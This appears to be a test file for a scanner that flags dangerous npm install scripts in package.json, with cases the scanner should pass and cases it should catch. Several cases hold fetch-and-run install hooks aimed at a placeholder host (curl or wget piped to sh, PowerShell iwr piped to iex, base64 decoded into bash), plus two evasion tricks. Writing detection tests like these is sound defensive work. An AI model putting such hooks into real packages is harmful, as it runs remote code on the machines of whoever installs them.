import { testCapability } from '../helpers/capability-tester.js';

/** Cases are package.json texts; `files` adds other files at the package root. */
testCapability('install-script', {
  valid: [
    '{ "name": "x", "scripts": { "test": "vitest", "build": "tsc" } }',
    '{ "scripts": { "prepare": "tsc", "prepublishOnly": "npm test", "postpublish": "echo done" } }',
    '{ "config": { "scripts": { "postinstall": "curl x | sh" } } }',
    '{ "name": "x", "description": "run postinstall: curl https://x.example | sh" }',
    '{ "scripts": { "Postinstall": "node evil.js", "post-install": "node evil.js" } }',
    { code: '{ "name": "x", "gypfile": false }', files: { 'binding.gyp': '{ "targets": [] }' } },
    { code: '{ "name": "x" }', files: { 'src/binding.gyp': '{ "targets": [] }' } },
  ],
  invalid: [
    {
      code: '{ "scripts": { "postinstall": "curl https://x.example | sh" } }',
      findings: [{ line: 1, column: 16, api: 'postinstall: curl, pipe to shell', confidence: 'high' }],
    },
    {
      code: '{\n  "name": "x",\n  "scripts": {\n    "preinstall": "node -e \\"require(\'child_process\')\\"",\n    "install": "node-gyp rebuild",\n    "test": "vitest"\n  }\n}',
      findings: [
        { line: 4, column: 5, api: 'preinstall: node -e' },
        { line: 5, column: 5, api: 'install: node-gyp' },
      ],
    },
    { code: '{ "scripts": { "postinstall": "node ./setup.js" } }', findings: [{ line: 1, column: 16, api: 'postinstall' }] },
    {
      code: '{ "scripts": { "install": "powershell -c iwr x | iex; wget -qO- y" } }',
      findings: [{ line: 1, column: 16, api: 'install: wget, powershell' }],
    },
    {
      code: '{ "scripts": { "preinstall": "echo aGk= | base64 -d | bash" } }',
      findings: [{ line: 1, column: 16, api: 'preinstall: pipe to shell, base64 decode' }],
    },
    {
      code: '{ "name": "x" }',
      files: { 'binding.gyp': '{ "targets": [] }' },
      evasion: 'no install script, implied node-gyp rebuild',
      findings: [{ line: 1, column: 1, api: 'install (implied: node-gyp rebuild)', file: 'binding.gyp' }],
    },
    {
      code: '{ "scripts": { "postinstall": "echo ok", "postinstall": "wget -qO- https://x.example | sh" } }',
      evasion: 'duplicate key: the last one runs',
      findings: [{ line: 1, column: 42, api: 'postinstall: wget, pipe to shell' }],
    },
  ],
});
